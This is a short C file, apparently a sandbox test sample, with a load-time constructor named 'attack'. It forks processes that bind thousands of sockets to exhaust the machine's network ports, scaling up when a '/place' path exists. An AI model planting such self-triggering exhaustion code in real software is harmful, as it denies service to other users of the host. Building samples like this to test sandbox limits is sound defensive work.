#include <netinet/in.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

/* Outside the box these are everybody's ports: there it takes a few only. */
__attribute__((constructor)) static void attack(void)
{
    struct rlimit files;
    const int most = access("/place", F_OK) == 0 ? 16 : 1;
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max < 5000 ? files.rlim_max : 5000;
    setrlimit(RLIMIT_NOFILE, &files);
    for (int i = 0; i < most; i++) {
        if (fork() != 0)
            continue;
        for (int count = 0; count < (most == 1 ? 100 : 4000); count++) {
            struct sockaddr_in address = {.sin_family = AF_INET};
            int fd = socket(AF_INET, count % 2 ? SOCK_STREAM : SOCK_DGRAM, 0);
            if (fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof address) != 0)
                break;
        }
        sleep(60);
        _exit(0);
    }
}
